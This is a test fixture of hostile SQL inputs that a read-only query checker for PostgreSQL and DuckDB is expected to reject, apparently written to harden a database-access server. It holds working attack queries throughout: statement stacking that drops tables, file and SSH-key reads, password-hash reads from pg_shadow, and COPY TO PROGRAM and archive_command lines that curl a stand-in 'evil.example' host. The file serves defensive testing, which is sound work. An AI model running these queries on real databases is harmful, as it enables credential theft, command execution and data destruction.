-- Hostile SQL that Check must refuse, one case per "-- name:" header.
-- Headers: "-- dialects:" (postgres, duckdb; default both), "-- code:" (the
-- expected Error.Code), "-- quoted: true" (the body is a Go quoted string, for
-- NUL bytes and invalid UTF-8). The body runs to the next "-- name:" line.
-- Sources: published read-only bypasses against database MCP servers (simple
-- protocol stacking, comments fooling keyword checks, functions in FROM),
-- PostgreSQL's superuser-only function list, and DuckDB's file readers.

-- name: commit_then_drop
-- code: multiple_statements
COMMIT; DROP TABLE users

-- name: select_then_delete
-- code: multiple_statements
SELECT 1; DELETE FROM users

-- name: values_then_drop
-- code: multiple_statements
VALUES (1); DROP TABLE users

-- name: semicolon_string_then_drop
-- code: multiple_statements
SELECT ';'; DROP TABLE users

-- name: dollar_string_then_delete
-- code: multiple_statements
SELECT $x$a;b$x$; DELETE FROM users

-- name: start_transaction_read_write_then_delete
-- code: multiple_statements
START TRANSACTION READ WRITE; DELETE FROM users

-- name: block_comment_hides_delete
-- code: not_select
/* SELECT */ DELETE FROM users

-- name: line_comment_hides_delete
-- code: not_select
-- SELECT
DELETE FROM users

-- name: delete_in_cte
-- code: data_modifying
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d

-- name: insert_in_cte
-- code: data_modifying
WITH i AS (INSERT INTO users (user_id) VALUES (1) RETURNING user_id) SELECT * FROM i

-- name: update_in_cte
-- code: data_modifying
WITH u AS (UPDATE users SET age = 0 RETURNING 1) SELECT count(*) FROM u

-- name: delete_in_nested_cte
-- code: data_modifying
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING user_id) SELECT * FROM d) x

-- name: delete_in_second_cte
-- code: data_modifying
WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING 1) SELECT * FROM a

-- name: merge_in_cte
-- code: data_modifying
WITH m AS (MERGE INTO users u USING orders o ON u.user_id = o.user_id WHEN MATCHED THEN DELETE RETURNING u.user_id) SELECT * FROM m

-- name: select_into
-- code: select_into
SELECT * INTO newtab FROM users

-- name: select_into_temp
-- code: select_into
SELECT user_id INTO TEMP t FROM users

-- name: for_update
-- code: locking_clause
SELECT * FROM users FOR UPDATE

-- name: for_share
-- code: locking_clause
SELECT * FROM users FOR SHARE

-- name: for_no_key_update
-- code: locking_clause
SELECT * FROM users FOR NO KEY UPDATE

-- name: for_key_share_nowait
-- code: locking_clause
SELECT * FROM users FOR KEY SHARE NOWAIT

-- name: for_update_in_subquery
-- code: locking_clause
SELECT * FROM (SELECT * FROM users FOR UPDATE) s

-- name: for_update_skip_locked
-- code: locking_clause
SELECT user_id FROM users LIMIT 1 FOR UPDATE SKIP LOCKED

-- name: for_update_in_cte
-- code: locking_clause
WITH x AS (SELECT * FROM users FOR UPDATE OF users) SELECT count(*) FROM x

-- name: copy_to_file
-- code: not_select
COPY users TO '/tmp/x'

-- name: copy_query_to_program
-- code: not_select
COPY (SELECT 1) TO PROGRAM 'curl https://evil.example'

-- name: copy_from_file
-- code: not_select
COPY users FROM '/etc/passwd'

-- name: explain_analyze_delete
-- code: not_select
EXPLAIN ANALYZE DELETE FROM users

-- name: explain_select
-- code: not_select
EXPLAIN SELECT 1

-- name: show_data_directory
-- code: not_select
SHOW data_directory

-- name: set_read_only_off
-- code: not_select
SET default_transaction_read_only = off

-- name: set_session_read_write
-- code: not_select
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- name: reset_all
-- code: not_select
RESET ALL

-- name: begin_read_write
-- code: not_select
BEGIN READ WRITE

-- name: rollback
-- code: not_select
ROLLBACK

-- name: call_procedure
-- code: not_select
CALL do_things()

-- name: do_block
-- code: not_select
DO $$BEGIN DELETE FROM users; END$$

-- name: listen
-- code: not_select
LISTEN chan

-- name: notify
-- code: not_select
NOTIFY chan, 'x'

-- name: create_table_as
-- code: not_select
CREATE TABLE t AS SELECT * FROM users

-- name: create_function
-- code: not_select
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql

-- name: drop_table
-- code: not_select
DROP TABLE users

-- name: truncate
-- code: not_select
TRUNCATE users

-- name: grant
-- code: not_select
GRANT ALL ON users TO public

-- name: alter_system
-- code: not_select
ALTER SYSTEM SET archive_command = 'curl https://evil.example'

-- name: prepare_delete
-- code: not_select
PREPARE p AS DELETE FROM users

-- name: execute_prepared
-- code: not_select
EXECUTE p

-- name: vacuum
-- code: not_select
VACUUM users

-- name: lock_table
-- code: not_select
LOCK TABLE users

-- name: load_library
-- code: not_select
LOAD 'httpfs'

-- name: refresh_materialized_view
-- code: not_select
REFRESH MATERIALIZED VIEW mv

-- name: insert_select
-- code: not_select
INSERT INTO users SELECT * FROM users

-- name: update
-- code: not_select
UPDATE users SET weight = 0

-- name: delete_using
-- code: not_select
DELETE FROM users USING orders

-- name: empty_text
-- code: empty


-- name: only_a_comment
-- code: empty
-- SELECT 1

-- name: only_semicolons
-- code: empty
;;

-- name: pg_read_file
-- code: denied_function
SELECT pg_read_file('/etc/passwd')

-- name: pg_read_file_in_from
-- code: denied_function
SELECT * FROM pg_read_file('/etc/passwd')

-- name: pg_read_file_in_rows_from
-- code: denied_function
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_read_file('/etc/passwd')) AS t(a, b)

-- name: pg_read_file_qualified
-- code: denied_function
SELECT pg_catalog.pg_read_file('/etc/passwd')

-- name: pg_read_file_quoted_upper
-- code: denied_function
SELECT "PG_READ_FILE"('/etc/passwd')

-- name: pg_read_file_unicode_escape
-- code: denied_function
SELECT U&"pg\005fread_file"('/etc/passwd')

-- name: pg_read_binary_file
-- code: denied_function
SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')

-- name: pg_ls_dir
-- code: denied_function
SELECT * FROM pg_ls_dir('/')

-- name: pg_ls_waldir
-- code: denied_function
SELECT * FROM pg_ls_waldir()

-- name: pg_stat_file
-- code: denied_function
SELECT (pg_stat_file('/etc/passwd')).size

-- name: pg_current_logfile
-- code: denied_function
SELECT pg_current_logfile()

-- name: pg_file_write_adminpack
-- code: denied_function
SELECT pg_file_write('/tmp/x', 'data', false)

-- name: get_raw_page
-- code: denied_function
SELECT get_raw_page('users', 0)

-- name: lo_import
-- code: denied_function
SELECT lo_import('/etc/passwd')

-- name: lo_export
-- code: denied_function
SELECT lo_export(1234, '/tmp/x')

-- name: lo_get
-- code: denied_function
SELECT lo_get(1234)

-- name: loread
-- code: denied_function
SELECT loread(42, 100)

-- name: dblink_exec
-- code: denied_function
SELECT dblink_exec('host=evil.example', 'DROP TABLE users')

-- name: dblink_in_from
-- code: denied_function
SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)

-- name: postgres_fdw_disconnect
-- code: denied_function
SELECT postgres_fdw_disconnect_all()

-- name: inet_server_addr
-- code: denied_function
SELECT inet_server_addr()

-- name: set_config_read_only_off
-- code: denied_function
SELECT set_config('default_transaction_read_only', 'off', false)

-- name: current_setting
-- code: denied_function
SELECT current_setting('data_directory')

-- name: current_setting_secret_duckdb
-- code: denied_function
SELECT current_setting('s3_secret_access_key')

-- name: pg_reload_conf
-- code: denied_function
SELECT pg_reload_conf()

-- name: pg_sleep
-- code: denied_function
SELECT pg_sleep(10)

-- name: pg_sleep_in_where
-- code: denied_function
SELECT * FROM users WHERE pg_sleep(10) IS NOT NULL

-- name: pg_sleep_for_in_case
-- code: denied_function
SELECT CASE WHEN age > 1 THEN pg_sleep_for('10 seconds') END FROM users

-- name: pg_sleep_in_order_by
-- code: denied_function
SELECT user_id FROM users ORDER BY pg_sleep(1)

-- name: pg_sleep_in_having
-- code: denied_function
SELECT gender FROM users GROUP BY gender HAVING count(*) > 0 AND pg_sleep(1) IS NULL

-- name: pg_sleep_in_lateral
-- code: denied_function
SELECT * FROM users u, LATERAL (SELECT pg_sleep(1)) s

-- name: pg_sleep_in_window
-- code: denied_function
SELECT sum(age) OVER (ORDER BY pg_sleep(1)) FROM users

-- name: pg_sleep_in_named_window
-- code: denied_function
SELECT sum(age) OVER w FROM users WINDOW w AS (PARTITION BY pg_sleep(1))

-- name: pg_sleep_in_cte
-- code: denied_function
WITH x AS (SELECT pg_sleep(5)) SELECT * FROM x

-- name: pg_sleep_in_cast
-- code: denied_function
SELECT CAST(pg_sleep(1) AS text)

-- name: pg_sleep_in_values
-- code: denied_function
VALUES (pg_sleep(1))

-- name: pg_sleep_in_union_arm
-- code: denied_function
SELECT 1 UNION ALL SELECT pg_sleep(1)::int

-- name: pg_sleep_in_exists
-- code: denied_function
SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))

-- name: pg_sleep_in_filter
-- code: denied_function
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM users

-- name: pg_sleep_in_coalesce
-- code: denied_function
SELECT coalesce(NULL, pg_sleep(1)::text)

-- name: pg_sleep_in_join_condition
-- code: denied_function
SELECT 1 FROM users a JOIN users b ON pg_sleep(1) IS NULL

-- name: pg_sleep_in_group_by
-- code: denied_function
SELECT count(*) FROM users GROUP BY pg_sleep(1)

-- name: pg_sleep_in_limit
-- code: denied_function
SELECT * FROM users LIMIT (SELECT 1 FROM pg_sleep(1))

-- name: pg_sleep_in_array
-- code: denied_function
SELECT ARRAY[pg_sleep(1)]

-- name: pg_sleep_in_recursive_cte
-- code: denied_function
WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r, pg_sleep(1) WHERE i < 3) SELECT * FROM r

-- name: pg_sleep_in_within_group
-- code: denied_function
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)::text::float) FROM users

-- name: nextval
-- code: denied_function
SELECT nextval('s')

-- name: setval
-- code: denied_function
SELECT setval('s', 1)

-- name: pg_advisory_lock
-- code: denied_function
SELECT pg_advisory_lock(1)

-- name: pg_try_advisory_xact_lock
-- code: denied_function
SELECT pg_try_advisory_xact_lock(1)

-- name: pg_terminate_backend
-- code: denied_function
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

-- name: pg_cancel_backend
-- code: denied_function
SELECT pg_cancel_backend(1)

-- name: pg_rotate_logfile
-- code: denied_function
SELECT pg_rotate_logfile()

-- name: pg_promote
-- code: denied_function
SELECT pg_promote()

-- name: pg_switch_wal
-- code: denied_function
SELECT pg_switch_wal()

-- name: pg_create_logical_replication_slot
-- code: denied_function
SELECT pg_create_logical_replication_slot('s', 'test_decoding')

-- name: pg_logical_emit_message
-- code: denied_function
SELECT pg_logical_emit_message(true, 'x', 'y')

-- name: pg_notify
-- code: denied_function
SELECT pg_notify('c', 'x')

-- name: txid_current
-- code: denied_function
SELECT txid_current()

-- name: query_to_xml_runs_sql
-- code: denied_function
SELECT query_to_xml('SELECT * FROM pg_shadow', true, false, '')

-- name: table_to_xml
-- code: denied_function
SELECT table_to_xml('users', true, false, '')

-- name: database_to_xml
-- code: denied_function
SELECT database_to_xml(true, false, '')

-- name: ts_stat_runs_sql
-- code: denied_function
SELECT * FROM ts_stat('SELECT to_tsvector(city) FROM users')

-- name: crosstab_runs_sql
-- code: denied_function
SELECT * FROM crosstab('SELECT 1, 2, 3') AS ct(a int, b int)

-- name: pg_stat_get_activity
-- code: denied_function
SELECT * FROM pg_stat_get_activity(NULL)

-- name: pg_stat_reset
-- code: denied_function
SELECT pg_stat_reset()

-- name: pg_shadow
-- code: denied_relation
SELECT * FROM pg_catalog.pg_shadow

-- name: pg_authid
-- code: denied_relation
SELECT rolpassword FROM pg_authid

-- name: pg_authid_quoted_upper
-- code: denied_relation
SELECT * FROM "PG_AUTHID"

-- name: pg_user_mappings
-- code: denied_relation
SELECT umoptions FROM pg_user_mappings

-- name: user_mapping_options
-- code: denied_relation
SELECT * FROM information_schema.user_mapping_options

-- name: pg_hba_file_rules
-- code: denied_relation
SELECT * FROM pg_hba_file_rules

-- name: pg_file_settings
-- code: denied_relation
SELECT * FROM pg_file_settings

-- name: pg_settings
-- code: denied_relation
SELECT setting FROM pg_settings WHERE name = 'data_directory'

-- name: pg_stat_activity
-- code: denied_relation
SELECT query FROM pg_stat_activity

-- name: pg_largeobject
-- code: denied_relation
SELECT data FROM pg_largeobject

-- name: pg_statistic
-- code: denied_relation
SELECT * FROM pg_statistic

-- name: pg_stats_most_common_values
-- code: denied_relation
SELECT most_common_vals FROM pg_stats WHERE tablename = 'users'

-- name: pg_subscription
-- code: denied_relation
SELECT subconninfo FROM pg_subscription

-- name: pg_shadow_in_scalar_subquery
-- code: denied_relation
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)

-- name: pg_shadow_in_cte
-- code: denied_relation
WITH s AS (SELECT * FROM pg_shadow) SELECT count(*) FROM s

-- name: table_pg_shadow
-- code: denied_relation
TABLE pg_shadow

-- name: pg_authid_in_join
-- code: denied_relation
SELECT 1 FROM users JOIN pg_authid a ON true

-- name: pg_shadow_in_union
-- code: denied_relation
SELECT city FROM users UNION SELECT passwd FROM pg_shadow

-- name: json_agg_whole_row
-- code: row_packing
SELECT json_agg(u) FROM users u

-- name: row_to_json_star
-- code: row_packing
SELECT row_to_json(u.*) FROM users u

-- name: to_jsonb_table_name
-- code: row_packing
SELECT to_jsonb(users) FROM users

-- name: jsonb_agg_star
-- code: row_packing
SELECT jsonb_agg(t.*) FROM users t

-- name: array_agg_whole_row
-- code: row_packing
SELECT array_agg(u) FROM users u

-- name: string_agg_row_cast
-- code: row_packing
SELECT string_agg(u::text, ';') FROM users u

-- name: json_build_array_row
-- code: row_packing
SELECT json_build_array(u) FROM users u

-- name: hstore_row
-- code: row_packing
SELECT hstore(u) FROM users u

-- name: xmlagg_row
-- code: row_packing
SELECT xmlagg(xmlelement(name r, u)) FROM users u

-- name: json_agg_subquery_alias
-- code: row_packing
SELECT json_agg(s) FROM (SELECT * FROM users) s

-- name: json_agg_cte_name
-- code: row_packing
WITH x AS (SELECT * FROM users) SELECT json_agg(x) FROM x

-- name: array_agg_row_constructor_star
-- code: row_packing
SELECT array_agg(ROW(u.*)) FROM users u

-- name: whole_row_renamed_then_packed
-- code: row_packing
SELECT json_agg(r) FROM (SELECT u AS r FROM users u) q

-- name: json_agg_agg_star
-- code: row_packing
SELECT json_agg(*) FROM users

-- name: duckdb_list_row
-- code: row_packing
SELECT list(u) FROM users u

-- name: duckdb_struct_pack_star
-- code: row_packing
SELECT struct_pack(u.*) FROM users u

-- name: packed_row_in_lateral
-- code: row_packing
SELECT x.j FROM users u, LATERAL (SELECT to_json(u) AS j) x

-- name: read_csv
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_csv('/etc/passwd')

-- name: read_csv_auto
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_csv_auto('/etc/passwd', header = false)

-- name: read_parquet_s3
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_parquet('s3://bucket/x.parquet')

-- name: parquet_scan
-- dialects: duckdb
-- code: denied_function
SELECT * FROM parquet_scan('/data/*.parquet')

-- name: read_json_auto
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_json_auto('/home/user/.aws/credentials.json')

-- name: read_ndjson_objects
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_ndjson_objects('/var/log/app.ndjson')

-- name: read_text
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_text('/etc/passwd')

-- name: read_blob
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_blob('/root/.ssh/id_rsa')

-- name: read_text_in_scalar_subquery
-- dialects: duckdb
-- code: denied_function
SELECT (SELECT content FROM read_text('/etc/passwd'))

-- name: read_text_scalar
-- dialects: duckdb
-- code: denied_function
SELECT read_text('/etc/passwd')

-- name: read_csv_in_lateral
-- dialects: duckdb
-- code: denied_function
SELECT * FROM users u, LATERAL read_csv('/etc/passwd') r

-- name: read_csv_in_cte
-- dialects: duckdb
-- code: denied_function
WITH f AS (SELECT * FROM read_csv('/etc/passwd')) SELECT count(*) FROM f

-- name: read_csv_qualified
-- dialects: duckdb
-- code: denied_function
SELECT * FROM system.main.read_csv('/etc/passwd')

-- name: glob
-- dialects: duckdb
-- code: denied_function
SELECT * FROM glob('*')

-- name: getenv
-- dialects: duckdb
-- code: denied_function
SELECT getenv('HOME')

-- name: duckdb_secrets
-- dialects: duckdb
-- code: denied_function
SELECT * FROM duckdb_secrets()

-- name: duckdb_settings
-- dialects: duckdb
-- code: denied_function
SELECT * FROM duckdb_settings()

-- name: duckdb_query_runs_sql
-- dialects: duckdb
-- code: denied_function
SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')

-- name: duckdb_query_table
-- dialects: duckdb
-- code: denied_function
SELECT * FROM query_table('users')

-- name: sniff_csv
-- dialects: duckdb
-- code: denied_function
SELECT * FROM sniff_csv('/etc/passwd')

-- name: pragma_database_list
-- dialects: duckdb
-- code: denied_function
SELECT * FROM pragma_database_list()

-- name: sqlite_scan
-- dialects: duckdb
-- code: denied_function
SELECT * FROM sqlite_scan('/tmp/x.db', 'users')

-- name: postgres_scan
-- dialects: duckdb
-- code: denied_function
SELECT * FROM postgres_scan('host=evil.example', 'public', 'users')

-- name: iceberg_scan
-- dialects: duckdb
-- code: denied_function
SELECT * FROM iceberg_scan('s3://bucket/table')

-- name: delta_scan
-- dialects: duckdb
-- code: denied_function
SELECT * FROM delta_scan('/data/delta')

-- name: read_xlsx
-- dialects: duckdb
-- code: denied_function
SELECT * FROM read_xlsx('/home/user/secret.xlsx')

-- name: checkpoint
-- dialects: duckdb
-- code: denied_function
SELECT * FROM checkpoint()

-- name: json_execute_serialized_sql
-- dialects: duckdb
-- code: denied_function
SELECT json_execute_serialized_sql('{}')

-- name: unknown_table_function
-- dialects: duckdb
-- code: denied_function
SELECT * FROM some_table_function()

-- name: string_literal_table
-- dialects: duckdb
-- code: syntax
SELECT * FROM '/etc/passwd'

-- name: quoted_path_table
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM "/etc/passwd.csv"

-- name: quoted_csv_in_join
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM users JOIN "data.csv" d ON true

-- name: quoted_url_table
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM "https://evil.example/x.parquet"

-- name: quoted_path_schema
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM "/tmp/evil.db".users

-- name: unknown_table
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM secrets_table

-- name: information_schema_tables
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM information_schema.tables

-- name: duckdb_tables_view
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM duckdb_tables

-- name: cte_name_out_of_scope_path
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM (WITH "x.csv" AS (SELECT 1) SELECT * FROM "x.csv") a, "x.csv"

-- name: cte_name_out_of_scope
-- dialects: duckdb
-- code: denied_relation
SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, t

-- name: non_recursive_cte_sees_itself
-- dialects: duckdb
-- code: denied_relation
WITH users2 AS (SELECT * FROM users2) SELECT * FROM users2

-- name: attach
-- dialects: duckdb
-- code: not_select
ATTACH '/tmp/evil.db' AS evil

-- name: install_httpfs
-- dialects: duckdb
-- code: not_select
INSTALL httpfs

-- name: load_httpfs
-- dialects: duckdb
-- code: not_select
LOAD httpfs

-- name: pragma
-- dialects: duckdb
-- code: not_select
PRAGMA enable_external_access

-- name: set_external_access
-- dialects: duckdb
-- code: not_select
SET enable_external_access = true

-- name: reset_lock_configuration
-- dialects: duckdb
-- code: not_select
RESET lock_configuration

-- name: copy_query_to_csv
-- dialects: duckdb
-- code: not_select
COPY (SELECT * FROM users) TO '/tmp/x.csv'

-- name: export_database
-- dialects: duckdb
-- code: not_select
EXPORT DATABASE '/tmp/x'

-- name: create_secret
-- dialects: duckdb
-- code: not_select
CREATE SECRET (TYPE s3, KEY_ID 'x', SECRET 'y')

-- name: call_pragma_function
-- dialects: duckdb
-- code: not_select
CALL pragma_table_info('users')

-- name: summarize
-- dialects: duckdb
-- code: not_select
SUMMARIZE users

-- name: describe
-- dialects: duckdb
-- code: not_select
DESCRIBE users

-- name: from_first
-- dialects: duckdb
-- code: syntax
FROM users

-- name: detach
-- dialects: duckdb
-- code: not_select
DETACH evil

-- name: nul_byte_hides_statement
-- quoted: true
-- code: invalid_text
"SELECT 1\x00; DROP TABLE users"

-- name: nul_byte_in_string
-- quoted: true
-- code: invalid_text
"SELECT '\x00'"

-- name: invalid_utf8
-- quoted: true
-- code: invalid_text
"SELECT '\xff'"

-- name: overlong_utf8_slash
-- quoted: true
-- code: invalid_text
"SELECT '\xc0\xaf'"

-- name: truncated_utf8
-- quoted: true
-- code: invalid_text
"SELECT 'caf\xc3'"

-- name: syntax_error
-- code: syntax
SELECT * FROM users WHERE

-- name: unterminated_string
-- code: syntax
SELECT 'abc

-- name: typo_is_a_syntax_error
-- dialects: postgres duckdb
-- code: syntax
SELEC gender FROM users

-- name: another_datasets_schema
-- dialects: postgres duckdb
-- code: denied_relation
SELECT content_genre, COUNT(*) FROM demo_streaming_panel.events GROUP BY 1

-- name: catalog_table_without_schema
-- dialects: postgres
-- code: denied_relation
SELECT relname, relnamespace FROM pg_class
